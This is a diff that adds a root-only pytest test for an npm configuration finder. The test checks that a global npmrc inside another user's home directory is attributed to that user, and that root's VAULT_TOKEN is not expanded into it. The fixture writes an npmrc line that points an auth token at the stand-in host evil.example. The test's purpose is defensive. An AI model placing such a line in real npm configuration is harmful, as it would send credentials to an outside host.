@@ -110,6 +110,25 @@ def test_variable() -> None:
     assert get_npm_variable("prefix", {"npm_config_prefix": "", "NPM_CONFIG_PREFIX": "/b"}) == "/b"
 
 
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a directory away")
+@pytest.mark.parametrize("given", ["home", "home/n/node", "home/n/node/etc/npmrc"])
+def test_global_file_of_a_node_in_somebody_s_directory_is_their_word(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: str
+) -> None:
+    """The host's Node.js can be a link into a home: root reads no file there as its own, and with none of its words."""
+    prefix = tmp_path / "home" / "n" / "node"
+    (prefix / "etc").mkdir(parents=True)
+    (prefix / "etc" / "npmrc").write_text("//evil.example/:_authToken=${VAULT_TOKEN}\n")
+    os.chown(tmp_path / given, 1234, 1234)
+    monkeypatch.setenv("VAULT_TOKEN", "roots-secret-0001")
+    monkeypatch.setattr(global_files, "_find_node_prefix", lambda: str(prefix))
+    (own,), _absent = find_accounts(None)
+    options = StoreOptions(levels=("global",))
+    (store,) = [item for item in find_stores([own], options) if item.path == str(prefix / "etc" / "npmrc")]
+    assert (store.account.uid, store.is_chosen, store.environment.get("VAULT_TOKEN")) == (1234, True, None)
+    assert find_global_npmrc(own._replace(environment={}), ()) == ("/etc/npmrc",)
+
+
 # Files that the operator names ---------------------------------------------------------------------------------------
 
 
